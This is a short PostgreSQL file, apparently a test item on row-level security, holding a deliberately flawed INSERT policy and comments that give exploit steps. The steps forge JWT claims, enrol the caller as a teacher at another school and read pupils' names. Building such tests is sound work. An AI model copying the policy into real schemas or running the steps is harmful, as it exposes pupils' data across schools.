-- A head may appoint users, but the rule does not tie the new row's school to the one he heads.
-- about: school_users, heads_appoint, is_head
-- as: hf_classrooms_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: INSERT INTO school_users VALUES ('22222222-2222-2222-2222-222222222222',
-- exploit: 'aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa', 'teacher');
-- exploit: SELECT full_name FROM pupils;
-- shows: Road-secret pupil
-- Heads appoint teachers and let pupils in.
CREATE FUNCTION is_head() RETURNS boolean
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = public, pg_temp AS $$
  SELECT EXISTS (SELECT FROM school_users u WHERE u.user_id = auth.uid() AND u.role = 'head')
$$;
GRANT INSERT ON school_users TO hf_classrooms_app;
CREATE POLICY heads_appoint ON school_users FOR INSERT WITH CHECK (is_head() AND role <> 'head');
